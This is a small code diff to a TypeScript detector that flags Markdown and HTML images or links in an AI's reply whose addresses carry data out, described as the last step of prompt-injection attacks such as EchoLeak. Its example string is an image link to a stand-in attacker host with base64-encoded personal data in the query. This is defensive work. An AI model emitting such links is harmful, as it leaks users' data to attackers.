@@ -1,5 +1,6 @@
 import type { Detector, DetectorSetup, FindingFacts, Scanner, Sink, StreamPattern } from '../../detector.ts';
 import type { View } from '../../view.ts';
+import { ownCases } from '../measured.ts';
 import { carriesData, type Carrier, type Verdict } from './url.ts';
 
 /** Addresses in a reply that carry data to someone else: the usual last step of an injection (EchoLeak, CVE-2025-32711). */
@@ -13,6 +14,7 @@ export const detector: Detector = {
       'Images and links (Markdown, its definitions and autolinks, HTML, style sheets, bare) whose address holds masked values, credentials, e-mail addresses, encoded text or a slot for data.',
     example: '![x](https://evil.example/p.png?q=bmFtZTogSmFuZSBEb2U=)',
     passes: '![build](https://img.shields.io/badge/build-passing-green.svg?style=flat)',
+    measured: ownCases(16, 4, '0.03 % of 3,000 ordinary texts are flagged'),
   },
   stream: { form: 'prefix' },
   setUp,
